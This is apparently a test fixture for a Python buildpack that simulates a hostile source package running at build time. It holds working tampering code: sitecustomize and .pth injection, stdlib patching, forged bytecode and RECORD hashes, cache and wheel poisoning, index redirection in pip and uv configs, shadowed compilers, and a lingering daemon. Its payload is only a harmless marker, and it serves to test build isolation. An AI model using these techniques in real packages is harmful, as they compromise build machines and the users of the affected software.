"""What a hostile package does while it is built: `hostile_sdists` puts this file into its sdist.

It runs as the user of the build, with any Python that an app may request, and never fails: an
attack that the build makes impossible is skipped.
"""

import base64
import hashlib
import importlib.util
import marshal
import os
import pwd
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

LAYERS = Path("/layers/cnb-python_python")
APP = Path("/workspace")
NEIGHBOURS = ("aardvark", "neighbour", "zebra")
PAYLOAD = "import builtins; builtins.EVIL = True"
# A port at which nothing listens: whatever is asked there fails.
ELSEWHERE = "http://127.0.0.1:9/simple/"
# Longer than any build.
DAEMON_SECONDS = 600


def interpreter() -> None:
    """Add modules that each process of the app's Python imports, and change those that it has."""
    library = Path(sys.base_prefix, f"lib/python{sys.version_info[0]}.{sys.version_info[1]}")
    for directory in (library, library / "site-packages"):
        directory.mkdir(exist_ok=True)
        _write(directory / "sitecustomize.py", PAYLOAD)
    _write(library / "site-packages/evil.pth", f"{PAYLOAD}\n")
    _append(library / "colorsys.py", f"\n{PAYLOAD}\n".encode())
    _write_bytecode(library / "calendar.py")
    with suppress(OSError):
        (library / "this.py").unlink()
    with suppress(OSError):
        (library / "wave.py").chmod(0o777)
    with suppress(OSError):
        (library / "cmd.py").unlink()
        (library / "cmd.py").symlink_to("/tmp/cmd.py")
    program = Path(sys.base_prefix, "bin/pydoc3")
    with suppress(OSError):
        program.unlink()
        program.write_text(f"#!/bin/sh\n# {PAYLOAD}\n")


def caches() -> None:
    """Change the modules and wheels of other packages wherever the build keeps them."""
    variables = ("UV_CACHE_DIR", "PIP_CACHE_DIR", "XDG_CACHE_HOME", "HOME", "TMPDIR")
    roots = {Path(os.environ[name]) for name in variables if os.environ.get(name)}
    for root in (*roots, LAYERS, Path(tempfile.gettempdir()), Path(sys.prefix).parent):
        for path in _below(root):
            if path.stem in NEIGHBOURS and path.suffix == ".py":
                _append(path, f"\n{PAYLOAD}\n".encode())
            elif path.suffix == ".whl" and path.name.startswith(NEIGHBOURS):
                _add_to_wheel(path)


def neighbours() -> None:
    """Change packages that are installed, and add modules to them."""
    for info in _infos():
        _append(info.parent / f"{_name(info)}.py", f"\n{PAYLOAD}\n".encode())
        _write(info.parent / f"{_name(info)}_evil.py", PAYLOAD)


def recorded_neighbours() -> None:
    """Do the same, and record it as if it was installed."""
    neighbours()
    for info in _infos():
        lines = []
        for name in (f"{_name(info)}.py", f"{_name(info)}_evil.py"):
            with suppress(OSError):
                content = (info.parent / name).read_bytes()
                digest = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=")
                lines.append(f"{name},sha256={digest.decode()},{len(content)}")
        with suppress(OSError):
            record = (info / "RECORD").read_text().splitlines()
            others = [line for line in record if not line.startswith(f"{_name(info)}.py,")]
            _write(info / "RECORD", "\n".join((*others, *lines, "")))


def layers() -> None:
    """Write into the directory of the layers what the lifecycle exports."""
    launch = "[types]\nlaunch = true\n"
    _write(LAYERS / "evil/env.launch/PYTHONSTARTUP.override", "/tmp/evil.py")
    _write(LAYERS / "evil/profile.d/evil.sh", "export EVIL=1")
    for name in ("evil.toml", "deps-\n.toml", "deps-zz.toml", "linked.toml", "build.toml"):
        _write(LAYERS / name, launch)
    for name in ("launch.sbom.cdx.json", "python.sbom.spdx.json"):
        _write(LAYERS / name, "{}")
    with suppress(OSError):
        (LAYERS / "linked").symlink_to("/etc")
    with suppress(OSError):
        os.mkfifo(LAYERS / "pipe.toml")
    # Not into `venv`: there a package is installed, and what it has there is its own.
    for name in ("python", "deps"):
        for kind in ("env", "env.launch", "env.build"):
            _write(LAYERS / name / kind / "EVIL.override", "1")
        _write(LAYERS / name / "exec.d/evil", "#!/bin/sh\n")
    _write(LAYERS / "store.toml", "[metadata]\n")


def store() -> None:
    """Change and add archives and manifests of the cache."""
    for number, path in enumerate(_below(LAYERS / "deps")):
        if number % 2:
            _append(path, b"evil")
        else:
            _write(path, "evil")
    _write(LAYERS / f"deps/{'0' * 64}.tar.zst", "evil")


def home() -> None:
    """Configure tools for those who run after this."""
    homes = {os.environ.get("HOME", "/"), pwd.getpwuid(os.getuid()).pw_dir, tempfile.gettempdir()}
    for directory in map(Path, homes):
        index = f"index-url = {ELSEWHERE}\n"
        for name in (".config/pip/pip.conf", ".pip/pip.conf"):
            _write(directory / name, f"[global]\n{index}")
        _write(directory / ".config/uv/uv.toml", f"index-url = '{ELSEWHERE}'\n")
        _write(directory / ".pydistutils.cfg", "[install]\nprefix = /tmp/evil\n")
        _write(directory / ".cargo/config.toml", "[build]\nrustc-wrapper = '/tmp/evil'\n")
        for program in ("cc", "gcc", "git", "cargo", "python3"):
            for name in (".local/bin", ".cargo/bin"):
                _write(directory / name / program, "#!/bin/sh\nexit 1\n")
                (directory / name / program).chmod(0o755)
        _write(directory / ".netrc", "machine 127.0.0.1 login evil password evil\n")
        _write(directory / "sitecustomize.py", PAYLOAD)


def app() -> None:
    """Leave files in the directory of the app."""
    for name in ("sitecustomize.py", "evil.pth", "shop/evil.py", ".profile", "evil.egg-info/x"):
        _write(APP / name, PAYLOAD)


def app_files() -> None:
    """Change a file of the app."""
    _append(APP / "shop/__init__.py", f"\n{PAYLOAD}\n".encode())


def daemon() -> None:
    """Go on with the other attacks after the build of this package has ended."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    os.closerange(0, 1000)
    os.chdir("/")
    end = time.monotonic() + DAEMON_SECONDS
    while time.monotonic() < end:
        with suppress(Exception):
            for attack in (interpreter, recorded_neighbours, caches, layers, store, app):
                attack()
        time.sleep(0.02)
    os._exit(0)


ATTACKS: dict[str, Callable[[], None]] = {
    attack.__name__: attack
    for attack in (
        *(interpreter, caches, neighbours, recorded_neighbours, layers, store, home, app),
        *(app_files, daemon),
    )
}


def run(names: list[str]) -> None:
    """Run the attacks with these *names*."""
    for name in names:
        # A part that another attack or the build prevents must not prevent the rest.
        with suppress(Exception):
            ATTACKS[name]()


def _infos() -> list[Path]:
    """Return the metadata directories of other packages, wherever the build keeps them."""
    roots = (LAYERS, Path(sys.prefix).parent, Path(tempfile.gettempdir()))
    infos = {path.parent for root in roots for path in _below(root) if path.name == "METADATA"}
    return sorted(info for info in infos if info.name.startswith(NEIGHBOURS))


def _name(info: Path) -> str:
    return info.name.partition("-")[0]


def _below(root: Path) -> Iterator[Path]:
    for directory, _, names in os.walk(root):
        yield from (Path(directory, name) for name in names)


def _write(path: Path, content: str) -> None:
    with suppress(OSError):
        path.parent.mkdir(parents=True, exist_ok=True)
        # As a daemon does it, too: the mode of what exists need not allow to write.
        path.unlink(missing_ok=True)
        path.write_text(content)


def _append(path: Path, content: bytes) -> None:
    with suppress(OSError):
        path.chmod(0o644)
        before = path.read_bytes()
        if not before.endswith(content):
            # In place: the file may have other links.
            path.write_bytes(before + content)


def _add_to_wheel(path: Path) -> None:
    with suppress(OSError, zipfile.BadZipFile), zipfile.ZipFile(path, "a") as wheel:
        wheel.writestr("sitecustomize.py", PAYLOAD)


def _write_bytecode(source: Path) -> None:
    """Replace the bytecode of *source* by one that Python does not compare with it."""
    code = compile(PAYLOAD, str(source), "exec")
    flags = (1).to_bytes(4, "little")
    content = importlib.util.MAGIC_NUMBER + flags + bytes(8) + marshal.dumps(code)
    path = Path(importlib.util.cache_from_source(str(source), optimization=""))
    with suppress(OSError):
        path.parent.mkdir(exist_ok=True)
        path.unlink(missing_ok=True)
        path.write_bytes(content)
